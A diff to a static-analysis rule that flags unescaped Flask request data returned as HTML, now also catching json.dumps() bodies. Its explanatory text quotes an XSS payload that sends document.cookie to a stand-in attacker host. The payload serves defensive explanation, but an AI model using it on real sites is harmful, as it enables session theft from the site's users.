@@ -33,7 +33,7 @@ export default defineRule({
     fix: { title: 'Escape the request data with markupsafe.escape()', safety: 'unsafe' },
     docs: {
       summary:
-        'Finds request data (query string, form, JSON fields, headers, cookies, URL parameters) sent back in an HTML response without escaping: a string returned from a view or error handler (`return f"<h1>{name}</h1>"`, `return "Hello " + name`, `return name`, `return body, 200`), and the body of `make_response(...)`, `flask.Response(...)`/`app.response_class(...)` anywhere. Values passed through `escape`/`markupsafe.escape`/`html.escape`/`bleach.clean` or converted with `int()`, bodies from `jsonify`, `json.dumps` or `render_template`, dictionaries (Flask serializes them as JSON), and responses declared with a non-HTML content type (`mimetype="application/json"`, `text/plain`, also when set afterwards on the response object) are not reported. Flask-RESTful/RESTX resources, whose return values are serialized to JSON, are left out, and so are values other functions compute from request data (a row looked up by a request id, a fetched page): only the data itself and text derived from it (formatting, string methods, containers, helpers in the file that return their input) count.',
+        'Finds request data (query string, form, JSON fields, headers, cookies, URL parameters) sent back in an HTML response without escaping: a string returned from a view or error handler (`return f"<h1>{name}</h1>"`, `return "Hello " + name`, `return name`, `return body, 200`, `return json.dumps(data)`, which Flask sends as text/html), and the body of `make_response(...)`, `flask.Response(...)`/`app.response_class(...)` anywhere. Values passed through `escape`/`markupsafe.escape`/`html.escape`/`bleach.clean` or converted with `int()`, bodies from `jsonify` or `render_template`, dictionaries (Flask serializes them as JSON), and responses declared with a non-HTML content type (`mimetype="application/json"`, `text/plain`, also when set afterwards on the response object) are not reported. Flask-RESTful/RESTX resources, whose return values are serialized to JSON, are left out, and so are values other functions compute from request data (a row looked up by a request id, a fetched page): only the data itself and text derived from it (formatting, string methods, containers, helpers in the file that return their input) count.',
       why: 'Flask sends a returned string as `text/html`. A value such as `<script>fetch("//evil.example/?c="+document.cookie)</script>` placed in a link to the page runs in the browser of whoever follows the link, with their session: the attacker reads their data, acts as them, or rewrites the page. Jinja templates escape values automatically; strings assembled in Python do not.',
       example:
         '@app.route("/hello")\ndef hello():\n    name = request.args.get("name", "")\n    return f"<h1>Hello {name}</h1>"',
@@ -53,6 +53,15 @@ export default defineRule({
     const report = (body: Node, at: Node, taint: Taint, where: string) => {
       if (reported.has(at.id)) return;
       reported.add(at.id);
+      // `return json.dumps(...)`: Flask sends a str as text/html, where `<script>` in a JSON string runs.
+      if (isJsonText(ctx, body)) {
+        ctx.report(
+          at,
+          `Request data (${taint.label}) is ${where} inside json.dumps() text: Flask sends a str as text/html, so a crafted link can run script in the victim's browser. Return jsonify(...) (application/json) instead.`,
+          { taint },
+        );
+        return;
+      }
       ctx.report(
         at,
         `Request data (${taint.label}) is ${where} without escaping: a crafted link can run script in the victim's browser. Escape it with markupsafe.escape(), or render a template.`,
@@ -146,6 +155,13 @@ function returnedBodies(ctx: RuleContext, returned: Node): Node[] {
     return [whenTrue, whenFalse].filter((c): c is Node => !!c).flatMap((c) => returnedBodies(ctx, c));
   }
   return [value];
+}
+
+const JSON_DUMPS = /^(flask\.json|json|simplejson|ujson|orjson|rapidjson)\.dumps$/;
+
+function isJsonText(ctx: RuleContext, body: Node): boolean {
+  const value = ctx.file.resolveValue(unwrap(body));
+  return value.type === 'call' && JSON_DUMPS.test(ctx.file.callAt(value)?.callee ?? '');
 }
 
 function fix(ctx: RuleContext, body: Node) {
